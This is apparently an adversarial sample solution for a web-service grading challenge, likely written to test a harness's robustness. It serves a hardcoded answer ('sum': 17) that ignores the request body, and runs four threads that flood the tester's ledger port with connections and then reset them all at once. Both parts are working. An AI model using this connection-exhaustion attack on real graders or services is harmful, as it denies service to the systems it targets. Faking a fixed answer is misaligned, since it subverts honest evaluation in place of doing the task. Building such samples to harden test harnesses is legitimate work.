# tries: to hold so many connections to the tester that it can open no other, and to reset them all at once
# must: wrong_answer tests_failed | wrong_answer unreachable | time_limit_exceeded request_timeout
# challenge: solve-http
import socket
import struct
import threading
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.answer(200, b"{}")

    def do_POST(self):
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.answer(200, b'{"sum": 17}')

    def answer(self, status, data, **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_):
        pass


def flood():
    address = ("127.0.0.1", int(os.environ["LEDGER_URL"].rpartition(":")[2]))
    held = []
    while True:
        try:
            held.append(socket.create_connection(address, 1))
            held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            while held:
                held.pop().close()


for _ in range(4):
    threading.Thread(target=flood, daemon=True).start()
ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Handler).serve_forever()
